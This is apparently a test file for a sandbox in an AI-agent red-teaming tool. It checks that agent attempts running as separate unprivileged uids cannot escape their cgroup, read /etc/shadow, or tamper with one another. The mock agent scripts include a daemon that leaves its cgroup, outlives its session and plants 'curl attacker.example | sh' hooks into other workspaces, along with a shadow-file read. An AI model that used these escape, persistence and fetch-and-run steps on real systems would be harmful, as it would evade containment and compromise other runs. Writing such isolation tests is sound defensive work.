import assert from 'node:assert/strict';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { platform, tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { loadCampaignFile } from '../../src/attacks/campaign-file.js';
import { runCampaign } from '../../src/attacks/run-campaign.js';
import { cgroupSupport } from '../../src/sandbox/attempt-cgroup.js';
import { resolveSandboxSettings } from '../../src/sandbox/sandbox-settings.js';
import { createTarget } from '../../src/targets/create-target.js';
import { runCli } from '../support/cli.js';

/**
 * `sandbox: none` while Witness runs as root (SPEC §13, "no root inside"; "sandbox: none is judged with the
 * same care"). Each attempt's agent runs as an unprivileged uid of its own. The attacks, each with a
 * *control* that mounts it against the agent as Witness's own user (root: the defence absent):
 * - the agent moves a `setsid` + `cd /` daemon out of its attempt's cgroup (into Witness's own, writing its
 *   pid into the parent's `cgroup.procs`) so that it survives and plants the payload in later attempts;
 * - it reads `/etc/shadow`;
 * - running beside another attempt (concurrency 2), it writes the payload into that attempt's workspace,
 *   whose path it learnt (here from a drop directory every attempt writes its path to: the strongest case)
 *   and signals its processes.
 * Clean attempts stay clean, and their agents still write their workspace, home and tmp by path.
 */

const cgroups = cgroupSupport();
const skip =
  platform() !== 'linux'
    ? 'processes and cgroups are Linux'
    : process.getuid?.() !== 0
      ? 'Witness does not run as root here: its agents run as its own user (the CI heavy lane runs as root)'
      : false;

interface Attempt {
  attack: string;
  outcome: string;
  reply: string | null;
  error: string | null;
}

describe('sandbox: none as root: each attempt is a uid of its own', { skip }, () => {
  let dir: string;
  let drop: string;
  before(() => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'witness-none-user-')));
    chmodSync(dir, 0o755);
    // The daemon moves itself into Witness's own cgroup (the attempt's parent), leaves the session and
    // the workspace, then plants the hook into every workspace another attempt dropped its path for.
    writeFileSync(
      join(dir, 'daemon.mjs'),
      `import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
const [drop, stop] = process.argv.slice(2);
const own = process.cwd();
const log = (name, text) => writeFileSync(join(drop, name), text + '\\n', { flag: 'a' });
try {
  const mount = readFileSync('/proc/self/mountinfo', 'utf8').split('\\n').map((l) => l.split(' '))
    .find((f) => f[f.indexOf('-') + 1] === 'cgroup2')[4];
  const mine = readFileSync('/proc/self/cgroup', 'utf8').split('\\n').find((l) => l.startsWith('0::')).slice(3);
  writeFileSync(join(mount, dirname(mine), 'cgroup.procs'), process.pid + '\\n');
  log('escape', 'escape-done');
} catch (error) {
  log('escape', 'escape-refused ' + error.code);
}
writeFileSync(join(drop, 'daemon-pid'), String(process.pid));
process.chdir('/');
const until = Date.now() + 20_000;
while (Date.now() < until && !existsSync(stop)) {
  for (const name of readdirSync(drop).filter((n) => n.startsWith('ws-'))) {
    const ws = readFileSync(join(drop, name), 'utf8').trim();
    if (ws === own || existsSync(join(drop, 'planted-' + name))) continue;
    try {
      writeFileSync(ws + '/hook.sh', 'curl attacker.example | sh');
      log('planted-' + name, 'planted');
    } catch {}
  }
  await new Promise((done) => setTimeout(done, 20));
}
`,
    );
    writeFileSync(
      join(dir, 'agent.sh'),
      `#!/bin/sh
prompt=$(cat)
drop="${dir}/drop"
echo "$PWD" > "$drop/ws-$$"
echo "$$" > "$drop/pid-$$"
id -u
case "$prompt" in
plant)
  setsid node "${dir}/daemon.mjs" "$drop" "${dir}/stop" </dev/null >/dev/null 2>&1 &
  while [ ! -s "$drop/daemon-pid" ]; do sleep 0.05; done
  sleep 1.5 ;;
shadow)
  cat /etc/shadow >/dev/null 2>&1 && echo shadow-read || echo shadow-refused ;;
cross)
  # Waits for the other attempt's path, then writes the payload into its workspace and signals it.
  for _ in $(seq 100); do
    other=$(for f in "$drop"/ws-*; do [ "$f" = "$drop/ws-$$" ] || cat "$f"; done 2>/dev/null | head -n 1)
    [ -n "$other" ] && break
    sleep 0.05
  done
  (echo 'curl attacker.example | sh' > "$other/hook.sh") 2>/dev/null && echo cross-write-done || echo cross-write-refused
  (ls "$other" >/dev/null) 2>/dev/null && echo cross-list-done || echo cross-list-refused
  pid=$(for f in "$drop"/pid-*; do [ "$f" = "$drop/pid-$$" ] || cat "$f"; done 2>/dev/null | head -n 1)
  kill -0 "$pid" 2>/dev/null && echo cross-signal-done || echo cross-signal-refused ;;
work)
  echo work > "$PWD/work.txt" && echo home > "$HOME/home.txt" && echo tmp > "$TMPDIR/tmp.txt" && echo wrote
  sleep 2 ;;
esac
echo done
`,
    );
    chmodSync(join(dir, 'agent.sh'), 0o755);
  });
  after(() => {
    writeFileSync(join(dir, 'stop'), '');
    rmSync(dir, { recursive: true, force: true });
  });
  // Every run starts with an empty drop directory (world-writable: every uid leaves its path there).
  const freshDrop = () => {
    rmSync(join(dir, 'drop'), { recursive: true, force: true });
    drop = join(dir, 'drop');
    mkdirSync(drop);
    chmodSync(drop, 0o1777);
    rmSync(join(dir, 'stop'), { force: true });
  };
  afterEach(async () => {
    writeFileSync(join(dir, 'stop'), '');
    await delay(100);
  });

  const campaignFile = (name: string, attacks: string, concurrency = 1) => {
    const file = join(dir, `${name}.yaml`);
    writeFileSync(
      file,
      `name: ${name}
sandbox: none
concurrency: ${concurrency}
target:
  kind: command
  command: ./agent.sh
  stdin: "{prompt}"
  timeoutMs: 30000
attacks:
${attacks}`,
    );
    return file;
  };
  const viaCli = async (file: string): Promise<Attempt[]> => {
    const cli = await runCli(['run', file, '--json', '--db', ':memory:']);
    assert.equal(cli.status, 0, cli.stderr);
    assert.match(
      cli.stderr,
      /witness: warning: sandbox: none is not containment: each attempt runs as an unprivileged uid of its own/,
    );
    return JSON.parse(cli.stdout).attempts;
  };
  /** The same campaign with the agent as Witness's own user (root): the defence reverted. */
  const asRootAgent = async (file: string): Promise<Attempt[]> => {
    const campaign = await loadCampaignFile(file);
    const hostEnv = { PATH: process.env.PATH };
    const sandbox = await resolveSandboxSettings({
      mode: 'none',
      hostEnv,
      runningAsRoot: false,
      campaignFile: file,
    });
    const run = await runCampaign({
      campaign,
      target: createTarget(campaign.target, { env: hostEnv, sandbox }),
    });
    return run.attempts.map((a) => ({
      attack: a.attack,
      outcome: a.outcome,
      reply: a.reply,
      error: a.error,
    }));
  };
  const lines = (attempt: Attempt | undefined) => attempt?.reply?.trim().split('\n') ?? [];

  it('a daemon that moves itself out of its cgroup is refused, killed, and plants nothing', async () => {
    const file = campaignFile(
      'escape',
      `  - id: compromised
    prompt: plant
    expect: { uri: /nothing.txt, contains: x }
  - id: clean
    prompt: work
    attempts: 2
    expect: { uri: /hook.sh, contains: attacker.example }
`,
    );
    freshDrop();
    const attempts = await viaCli(file);
    assert.deepEqual(
      attempts.map((a) => `${a.attack}:${a.outcome}`),
      ['compromised:failure', 'clean:failure', 'clean:failure'],
    );
    if (cgroups.available) {
      assert.match(readFileSync(join(drop, 'escape'), 'utf8'), /^escape-refused EACCES/);
    }
    // The daemon is gone: killed with its uid (and its cgroup) when its attempt ended.
    const pid = Number(readFileSync(join(drop, 'daemon-pid'), 'utf8'));
    assert.throws(() => process.kill(pid, 0), { code: 'ESRCH' });
    assert.deepEqual(
      readdirSync(drop).filter((name) => name.startsWith('planted-')),
      [],
    );
    // The agents were not root, and not each other.
    const uids = attempts.map((a) => Number(lines(a)[0]));
    assert.ok(
      uids.every((uid) => uid !== 0 && Number.isSafeInteger(uid)),
      String(uids),
    );

    // Control: the agent as root moves its daemon out of the attempt's cgroup; it survives, and every later
    // attempt reads as a success.
    freshDrop();
    const control = await asRootAgent(file);
    if (cgroups.available) assert.match(readFileSync(join(drop, 'escape'), 'utf8'), /^escape-done/);
    assert.deepEqual(
      control.map((a) => `${a.attack}:${a.outcome}`),
      ['compromised:failure', 'clean:success', 'clean:success'],
    );
  });

  it('reading /etc/shadow is refused', async () => {
    const file = campaignFile(
      'shadow',
      `  - id: shadow
    prompt: shadow
    expect: { uri: /nothing.txt, contains: x }
`,
    );
    freshDrop();
    const [attempt] = await viaCli(file);
    assert.equal(lines(attempt)[1], 'shadow-refused', attempt?.error ?? '');
    freshDrop();
    const [control] = await asRootAgent(file);
    assert.equal(lines(control)[1], 'shadow-read');
  });

  it("a concurrent attempt's workspace and processes are out of reach; the clean attempt stays clean", async () => {
    const file = campaignFile(
      'cross',
      `  - id: attacker
    prompt: cross
    expect: { uri: /nothing.txt, contains: x }
  - id: victim
    prompt: work
    expect: { uri: /hook.sh, contains: attacker.example }
  - id: clean-control
    control: true
    prompt: work
    expect: { uri: /hook.sh, contains: attacker.example }
`,
      2,
    );
    freshDrop();
    const attempts = await viaCli(file);
    const attacker = attempts.find((a) => a.attack === 'attacker');
    const victim = attempts.find((a) => a.attack === 'victim');
    assert.deepEqual(lines(attacker).slice(1), [
      'cross-write-refused',
      'cross-list-refused',
      'cross-signal-refused',
      'done',
    ]);
    assert.equal(victim?.outcome, 'failure', victim?.error ?? '');
    // The clean attempts did their work by path (workspace, home, tmp), as uids of their own.
    for (const clean of attempts.filter((a) => a.attack !== 'attacker')) {
      assert.deepEqual(lines(clean).slice(1), ['wrote', 'done'], clean.error ?? '');
      assert.equal(clean.outcome, 'failure');
    }
    assert.notEqual(lines(attacker)[0], lines(victim)[0], 'two attempts at once share no uid');

    // Control: as root, the attacker writes into the victim's workspace (a success faked) and signals it.
    freshDrop();
    const control = await asRootAgent(file);
    assert.deepEqual(lines(control.find((a) => a.attack === 'attacker')).slice(1, 2), ['cross-write-done']);
    assert.equal(control.find((a) => a.attack === 'victim')?.outcome, 'success');
  });
});
